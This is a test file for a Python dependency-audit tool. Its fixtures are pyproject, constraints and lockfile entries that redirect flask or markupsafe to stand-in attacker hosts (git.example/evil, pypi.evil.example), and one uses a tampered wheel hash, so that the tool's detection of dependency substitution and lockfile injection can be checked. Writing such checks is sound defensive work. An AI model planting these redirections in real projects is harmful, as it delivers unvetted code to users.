/**
 * Hostile world: a pyproject.toml whose `[tool.uv.sources]` sends a dependency elsewhere. uv
 * installs `flask` from the git repository, URL or path its source names (a list of tables, one
 * per platform marker, counts on every platform it names), and from the index a source binds it
 * to even when that index is `explicit`; Poetry takes a dependency that names no source from any
 * `[[tool.poetry.source]]` that is not `explicit` (primary is the default). Read alone (a pull request that adds the source and no
 * lockfile), such a pyproject must not pass PyPI's flask: a git or URL source is code no index
 * vouches for (an unvouched-remote finding, docs/security.md "Dependencies no registry vouches
 * for"), a path is the tree's own code (noted, not audited), and an index is held to PyPI's
 * hashes, of which a pyproject pins none ("Lockfile injection"). The same for a requirements
 * file whose constraints file names a URL for a package (`flask @ https://…`): pip's resolver
 * makes that URL the package's only candidate. A lockfile entry is read as its installer reads
 * it: a poetry.lock source of any type but git, file, directory and url (`custom`, `Legacy`) is
 * an index; a Pipfile.lock `editable` with no git, path or file key changes nothing, and an entry
 * with no `==` version installs a release nerq never saw (an unvouched-remote finding).
 */
import { describe, it } from 'vitest';
import { parseAudit, writeIn } from '../cli/audit-helpers.js';
import { useAuditWorld } from './support/audit-world.js';
import { runHostile } from './support/cli.js';
import { CLI_TEST_TIMEOUT_MS, expectCleanStderr } from './support/expect.js';
import { noteCases } from './support/metrics.js';

const world = useAuditWorld((server) => {
  // PyPI: the recorded flask answers; nothing else about it is known.
  server.fallback('GET', '/pypi/');
  server.fallback('GET', '/pypistats/', { status: 404 });
});
const dirs = world.dirs;

/** The policy bar is not what these cases are about. */
const ANY_SCORE = JSON.stringify({ minScore: 0, minCoverage: 0 });
const PROJECT = '[project]\nname = "app"\nversion = "0.1.0"\ndependencies = ["flask==3.1.3"]\n\n';

async function audit(pyproject: string) {
  const dir = dirs.make();
  writeIn(dir, 'pyproject.toml', PROJECT + pyproject);
  writeIn(dir, '.nerqrc.json', ANY_SCORE);
  const run = await runHostile(['audit', dir, '--json', '--timeout', '30'], { server: world.server });
  return { run, report: parseAudit(run.stdout) as ReturnType<typeof parseAudit> & { warnings: { code: string; message: string; details: Record<string, unknown> }[] } };
}

/** [label, the [tool.uv.sources] tables]: each makes uv fetch flask from git.example. */
const REMOTE: [string, string][] = [
  ['a git source', '[tool.uv.sources]\nflask = { git = "https://git.example/evil/flask", tag = "3.1.3" }\n'],
  ['a URL source', '[tool.uv.sources]\nflask = { url = "https://git.example/evil/flask-3.1.3-py3-none-any.whl" }\n'],
  ['a git source for one platform (a list with markers)', '[tool.uv.sources]\nflask = [\n  { git = "https://git.example/evil/flask", marker = "sys_platform == \'linux\'" },\n  { path = "vendor/flask", marker = "sys_platform != \'linux\'" },\n]\n'],
];

describe('[tool.uv.sources] that fetches a dependency from a git repository or URL', () => {
  it.concurrent.for(REMOTE)('%s: an unvouched-remote finding naming the host, flask not audited as PyPI\'s, exit 3', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, sources], { task, expect }) => {
    noteCases(task);
    const { run, report } = await audit(sources);
    const context = `${label}: exit ${run.code}\n${run.stderr.slice(0, 500)}`;
    expectCleanStderr(run.stderr, context);
    expect(run.code, context).toBe(3);
    expect(report.entries.map((e) => e.subject.name), context).toEqual([]);
    const remote = report.warnings.filter((w) => w.code === 'unvouched-remote');
    expect(remote.map((w) => [w.details.package, w.details.host, w.details.line]), context).toEqual([['flask', 'git.example', 4]]);
  });
});

describe('[tool.uv.sources] that takes a dependency from a path or another index', () => {
  it('a path source: noted, never audited as PyPI\'s flask', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task, expect }) => {
    noteCases(task);
    const { run, report } = await audit('[tool.uv.sources]\nflask = { path = "vendor/flask", editable = true }\n');
    expectCleanStderr(run.stderr, run.stderr);
    expect(report.entries.map((e) => e.subject.name), run.stderr).toEqual([]);
    expect(report.warnings.some((w) => w.code === 'input-note' && w.message.includes('"flask" skipped: ')), run.stdout).toBe(true);
  });

  it.concurrent.for([
    ['a Poetry source, primary by default', '[[tool.poetry.source]]\nname = "corp"\nurl = "https://pypi.evil.example/simple"\n'],
    ['a supplemental Poetry source', '[[tool.poetry.source]]\nname = "corp"\nurl = "https://pypi.evil.example/simple"\npriority = "supplemental"\n'],
  ])('%s that the dependency does not name: held to PyPI\'s hashes, none pinned: incomplete, exit 3', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, source], { task, expect }) => {
    noteCases(task);
    const { run, report } = await audit(source!);
    const flask = report.entries.find((e) => e.subject.name === 'flask');
    expect(run.code, `${label}: ${run.stderr}`).toBe(3);
    expect(flask?.policy.failures[0], label).toMatchObject({ rule: 'not-checked', checks: ['lockfile-injection'] });
    expect(flask?.policy.failures[0]?.message, label).toContain('pypi.evil.example');
  });

  it('an explicit index bound in a list with markers: held to PyPI\'s hashes, none pinned: incomplete, exit 3', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task, expect }) => {
    noteCases(task);
    const { run, report } = await audit(
      '[tool.uv.sources]\nflask = [{ index = "private", marker = "sys_platform == \'linux\'" }]\n\n[[tool.uv.index]]\nname = "private"\nurl = "https://pypi.evil.example/simple"\nexplicit = true\n',
    );
    const flask = report.entries.find((e) => e.subject.name === 'flask');
    expect(run.code, run.stderr).toBe(3);
    expect(flask?.policy.failures[0], run.stderr).toMatchObject({ rule: 'not-checked', checks: ['lockfile-injection'] });
    expect(flask?.policy.failures[0]?.message).toContain('pypi.evil.example');
  });
});

/** [label, files]: each makes pip install flask from git.example through a constraints file. */
const CONSTRAINT_LINKS: [string, Record<string, string>, boolean][] = [
  ['a requirement pinned, its constraint a URL', { 'requirements.txt': '-c constraints.txt\nflask==3.1.3\n', 'constraints.txt': 'flask @ https://git.example/evil/flask-3.1.3-py3-none-any.whl\n' }, true],
  ['a package only the tree pulls in, its constraint a git URL', { 'requirements.txt': '-c constraints.txt\nflask==3.1.3\n', 'constraints.txt': 'markupsafe @ git+https://git.example/evil/markupsafe\n' }, false],
];

describe('a constraints file that names a URL for a package (pip installs it from there)', () => {
  it.concurrent.for(CONSTRAINT_LINKS)('%s: an unvouched-remote finding naming the host, exit 3', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, files, replacesFlask], { task, expect }) => {
    noteCases(task);
    const dir = dirs.make();
    for (const [name, content] of Object.entries({ ...files, '.nerqrc.json': ANY_SCORE })) writeIn(dir, name, content);
    const run = await runHostile(['audit', dir, '--json', '--timeout', '30'], { server: world.server });
    const report = parseAudit(run.stdout) as ReturnType<typeof parseAudit> & { warnings: { code: string; details: Record<string, unknown> }[] };
    const context = `${label}: exit ${run.code}\n${run.stderr.slice(0, 500)}`;
    expectCleanStderr(run.stderr, context);
    expect(run.code, context).toBe(3);
    const remote = report.warnings.filter((w) => w.code === 'unvouched-remote');
    expect(remote.map((w) => [w.details.package, w.details.host, w.details.file]), context).toEqual([[replacesFlask ? 'flask' : 'markupsafe', 'git.example', 'constraints.txt']]);
    if (replacesFlask) expect(report.entries.map((e) => e.subject.name), context).toEqual([]);
  });
});

/** Edited: a digest PyPI does not publish for flask 3.1.3 (the wheel's, last hex digit changed). */
const FLASK_OTHER = 'f4bcbefc124291925f1a26446da31a5178f9483862233b23c0c96a20701f670d';
const EVIL_INDEX = 'https://pypi.evil.example/simple';

/** A poetry.lock pinning flask 3.1.3 (a file whose hash is not PyPI's) from a source of `type`. */
const poetryLock = (type: string) => `[[package]]
name = "flask"
version = "3.1.3"
optional = false
python-versions = ">=3.9"
groups = ["main"]
files = [{ file = "flask-3.1.3-py3-none-any.whl", hash = "sha256:${FLASK_OTHER}" }]

[package.source]
type = "${type}"
url = "${EVIL_INDEX}"
reference = "corp"

[metadata]
lock-version = "2.1"
python-versions = ">=3.9"
content-hash = "0"
`;

/** [label, files]: each has Poetry or pipenv install flask 3.1.3 from an index, whatever else its entry says. */
const INDEX_ENTRIES: [string, Record<string, string>][] = [
  ['a poetry.lock source of type "custom" (Poetry downloads any type but git, file, directory and url from the index its reference names)', { 'poetry.lock': poetryLock('custom') }],
  ['a poetry.lock source of type "Legacy" (capitalised)', { 'poetry.lock': poetryLock('Legacy') }],
  [
    'a Pipfile.lock entry marked editable with no git, path or file key (pipenv ignores the flag)',
    { 'Pipfile.lock': JSON.stringify({ _meta: { sources: [{ name: 'corp', url: EVIL_INDEX, verify_ssl: true }] }, default: { flask: { version: '==3.1.3', editable: true, index: 'corp', hashes: [`sha256:${FLASK_OTHER}`] } } }, null, 2) },
  ],
];

describe('a Python lockfile entry its installer takes from an index, whatever else the entry says', () => {
  it.concurrent.for(INDEX_ENTRIES)("%s: held to PyPI's hashes, none of which it pins: lockfile-injection, exit 1", { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, files], { task, expect }) => {
    noteCases(task);
    const dir = dirs.make();
    for (const [name, content] of Object.entries({ ...files, '.nerqrc.json': ANY_SCORE })) writeIn(dir, name, content);
    const run = await runHostile(['audit', dir, '--json', '--timeout', '30'], { server: world.server });
    const flask = parseAudit(run.stdout).entries.find((e) => e.subject.name === 'flask');
    const context = `${label}: exit ${run.code}\n${run.stderr.slice(0, 500)}`;
    expectCleanStderr(run.stderr, context);
    expect(run.code, context).toBe(1);
    expect(flask?.policy.failures[0], context).toMatchObject({ rule: 'lockfile-injection' });
  });

  it.concurrent.for([
    ['no version (pipenv installs the newest flask)', { index: 'pypi' }],
    ['a range (pipenv installs the newest release it allows)', { version: '>=3.0', index: 'pypi' }],
  ])('a Pipfile.lock entry with %s: remote code nerq cannot place, an unvouched-remote finding, exit 3', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, entry], { task, expect }) => {
    noteCases(task);
    const dir = dirs.make();
    const lock = JSON.stringify({ _meta: { sources: [{ name: 'pypi', url: 'https://pypi.org/simple', verify_ssl: true }] }, default: { flask: entry } }, null, 2);
    for (const [name, content] of Object.entries({ 'Pipfile.lock': lock, '.nerqrc.json': ANY_SCORE })) writeIn(dir, name, content);
    const run = await runHostile(['audit', dir, '--json', '--timeout', '30'], { server: world.server });
    const report = parseAudit(run.stdout) as ReturnType<typeof parseAudit> & { warnings: { code: string; details: Record<string, unknown> }[] };
    const context = `${label as string}: exit ${run.code}\n${run.stderr.slice(0, 500)}`;
    expectCleanStderr(run.stderr, context);
    expect(run.code, context).toBe(3);
    expect(report.entries.map((e) => e.subject.name), context).toEqual([]);
    const remote = report.warnings.filter((w) => w.code === 'unvouched-remote');
    expect(remote.map((w) => [w.details.package, w.details.host, w.details.file]), context).toEqual([['flask', null, 'Pipfile.lock']]);
  });
});
